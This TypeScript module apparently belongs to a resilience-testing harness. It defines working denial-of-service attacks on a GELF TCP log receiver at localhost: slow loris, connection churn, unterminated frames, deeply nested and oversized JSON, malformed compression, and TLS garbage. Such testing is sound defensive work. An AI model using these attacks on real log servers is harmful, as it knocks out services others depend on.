/** Against the GELF TCP port. */
import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import { attackerAddress, every, type Attack, type AttackContext } from './contract.js';

function dial(context: AttackContext, port: number): Socket {
  context.count('connections');
  const socket = connect({ port, host: '127.0.0.1', localAddress: attackerAddress });
  socket.on('error', () => {
    context.count('connections broken');
  });
  socket.resume();
  return socket;
}

/** Connections kept open; one that was closed by the other side is opened again. */
async function hold(
  context: AttackContext,
  port: number,
  many: number,
  everyMs: number,
  turn: (socket: Socket) => void,
  perTurn = 50,
): Promise<void> {
  const open = new Set<Socket>();
  await every(everyMs, context.signal, () => {
    for (let fresh = 0; open.size < many && fresh < perTurn; fresh += 1) {
      const socket = dial(context, port);
      open.add(socket);
      socket.once('close', () => {
        open.delete(socket);
      });
    }
    for (const socket of open)
      if (socket.writable && !socket.connecting && socket.writableLength < 4 * 2 ** 20) turn(socket);
  });
  for (const socket of open) socket.destroy();
}

/** Frames that the receiver parses to the end before it can say no. */
const deepFrame = Buffer.from(`{"host":"h","short_message":"deep","_a":${'['.repeat(400_000)}\0`);
const deepObject = Buffer.from(
  `{"host":"h","short_message":"deep","_a":${'{"a":'.repeat(150_000)}1${'}'.repeat(150_000)}}\0`,
);
const manyFields = Buffer.from(
  `{"host":"h","short_message":"fields",${Array.from({ length: 40_000 }, (_, index) => `"_f${index}":${index}`).join(',')}}\0`,
);
const manyKeys = (random: AttackContext['random']): Buffer =>
  Buffer.from(
    `{"host":"h","short_message":"new names",${Array.from({ length: 300 }, () => `"_n${random(1e9)}":"v"`).join(',')}}\0`,
  );
const longName = Buffer.from(`{"host":"h","short_message":"name","_${'n'.repeat(500_000)}":1}\0`);
const lenient = Buffer.from(`{host:'h',"short_message":"lenient",${"_a:'x\\'y',".repeat(40_000)}}\0`);
const unsupported = [
  Buffer.from([0x28, 0xb5, 0x2f, 0xfd]),
  Buffer.from('BZh9'),
  Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a]),
  Buffer.from([0x1f, 0x9d]),
];

export const tcpAttacks: readonly Attack[] = [
  {
    name: 'slow loris, TCP',
    aim: 'connections and memory',
    lasts: true,
    run: (context) =>
      hold(context, context.target.tcp, 500, 1_000, (socket) => socket.write(Buffer.from([0x20 + context.random(90)]))),
  },
  {
    name: 'connection churn',
    aim: 'accept queue, file descriptors',
    lasts: false,
    run: (context) =>
      every(10, context.signal, () => {
        for (let number = 0; number < 4; number += 1) {
          const socket = dial(context, context.target.tcp);
          socket.once('connect', () => {
            const kind = context.random(4);
            if (kind === 0) socket.resetAndDestroy();
            else if (kind === 1) socket.end();
            else if (kind === 2) socket.end('{"host":"h","short_message":"cut');
            else
              socket.write('{"host":"h","short_message":"churn"}\0not json\0', () => {
                socket.resetAndDestroy();
              });
          });
        }
      }),
  },
  {
    name: 'frames without an end',
    aim: 'memory of unfinished frames',
    lasts: false,
    run: (context) => {
      const block = Buffer.alloc(64 * 1024, 'a');
      return hold(context, context.target.tcp, 300, 100, (socket) => socket.write(block));
    },
  },
  {
    name: 'deep JSON',
    aim: 'stack and parser',
    lasts: false,
    run: (context) =>
      hold(context, context.target.tcp, 4, 100, (socket) => {
        if (socket.writableLength > 0) return;
        context.count('frames', 2);
        socket.write(deepFrame);
        socket.write(deepObject);
      }),
  },
  {
    name: 'many fields',
    aim: 'documents and mappings',
    lasts: false,
    run: (context) =>
      hold(context, context.target.tcp, 2, 250, (socket) => {
        if (socket.writableLength > 0) return;
        context.count('frames', 3);
        socket.write(manyFields);
        socket.write(manyKeys(context.random));
        socket.write(longName);
      }),
  },
  {
    name: 'almost JSON',
    aim: 'the lenient parser',
    lasts: false,
    run: (context) =>
      hold(context, context.target.tcp, 4, 100, (socket) => {
        if (socket.writableLength > 0) return;
        context.count('frames');
        socket.write(lenient);
      }),
  },
  {
    name: 'random bytes, TCP',
    aim: 'framing, diagnosis, dead letters',
    lasts: false,
    run: (context) =>
      hold(context, context.target.tcp, 8, 50, (socket) => {
        if (socket.writableLength > 0) return;
        context.count('bytes', 16_384);
        socket.write(context.randomBytes(16_384));
        socket.write(unsupported[context.random(unsupported.length)] as Buffer);
        socket.write(gzipSync('{"host":"h","short_message":"packed"}').fill(0xff, 12));
        socket.write('\0');
      }),
  },
  {
    name: 'empty frames',
    aim: 'work for each frame',
    lasts: false,
    run: (context) => {
      const nothing = Buffer.alloc(64 * 1024);
      const tiny = Buffer.from('x\0'.repeat(2_000));
      return hold(context, context.target.tcp, 2, 50, (socket) => {
        if (socket.writableLength > 0) return;
        socket.write(nothing);
        socket.write(tiny);
      });
    },
  },
  {
    name: 'TLS garbage',
    aim: 'handshakes',
    lasts: false,
    run: async (context) => {
      const hello = Buffer.concat([
        Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc]),
        Buffer.alloc(508, 7),
      ]);
      const ports = [
        context.target.tcp,
        context.target.http,
        ...(context.target.tls === undefined ? [] : [context.target.tls, context.target.tls]),
      ];
      await every(20, context.signal, () => {
        for (const port of ports) {
          const socket = dial(context, port);
          socket.once('connect', () => {
            socket.write(context.random(2) === 0 ? hello : context.randomBytes(600));
            setTimeout(() => {
              socket.destroy();
            }, 200);
          });
        }
      });
    },
  },
];
